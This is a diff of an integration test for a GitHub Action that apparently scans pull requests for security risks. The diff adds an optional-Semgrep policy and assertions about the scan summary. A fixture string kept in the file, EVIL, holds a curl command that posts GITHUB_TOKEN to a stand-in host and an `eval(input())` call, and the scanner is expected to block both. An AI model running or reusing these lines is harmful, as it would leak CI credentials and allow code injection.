@@ -22,6 +22,13 @@ const REPO = 'octo-org/octo-repo';
 
 const BENIGN = `import json, os, statistics\nvalues = [3, 1, 4, 1, 5, 9, 2, 6]\nout = os.path.join(os.environ["AIRLOCK_OUTPUT_DIR"], "stats.json")\nwith open(out, "w") as f:\n    json.dump({"mean": statistics.mean(values)}, f)\nprint("mean", statistics.mean(values))\n`;
 const RISKY = `import urllib.request\ntry:\n    urllib.request.urlopen("https://example.com/x.csv", timeout=2)\nexcept OSError as e:\n    print("offline:", type(e).__name__)\n`;
+/**
+ * The small test image has Bandit only. This test is about the Action's flow (PR diff,
+ * SARIF upload, outputs, audit branch), so its policy says what a custom image without
+ * Semgrep must say: `semgrep: optional`, which the summary then flags as a warning.
+ * Both scanners for real: test/integration/scan/scanner-versions.test.ts.
+ */
+const TEST_IMAGE_POLICY = 'version: 1\nextends: default\nscanners:\n  semgrep:\n    mode: optional\n';
 const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\neval(input())\n`;
 
 let root: string;
@@ -68,6 +75,7 @@ async function runAction(opts: {
     'audit-branch': 'airlock-audit',
     token: fake.token,
     'upload-sarif': 'true',
+    policy: 'airlock-test-image.yml',
     ...opts.inputs,
   };
   const env = minimalEnv({
@@ -125,6 +133,7 @@ beforeAll(async () => {
     'analysis/old_plot.py': BENIGN,
     'analysis/data.csv': 'a,b\n1,2\n',
     'README.md': '# fixture\n',
+    'airlock-test-image.yml': TEST_IMAGE_POLICY,
   });
   headSha = await commitOnBranch(ws, 'feature', {
     'analysis/new_stats.py': BENIGN,
@@ -190,6 +199,12 @@ describe('the Action on a pull request', () => {
     expect(r.outputs['audit-checkpoint']).toContain(`github.com/${REPO}/airlock-audit`);
     expect(r.summary).toContain('| `analysis/evil.py` |');
     expect(r.summary).toContain('blocked');
+    // Semgrep optional and absent from the image: a warning box, not a line among the notices.
+    expect(r.summary).toMatch(/> \[!WARNING\]\n> \*\*Semgrep did not scan/);
+    expect(r.report.scanners.map((x: any) => [x.tool, x.status])).toEqual([
+      ['bandit', 'ran'],
+      ['semgrep', 'unavailable'],
+    ]);
 
     // The audit branch of the "remote" holds a log that verifies with the public key.
     const clone = join(root, 'audit-clone');
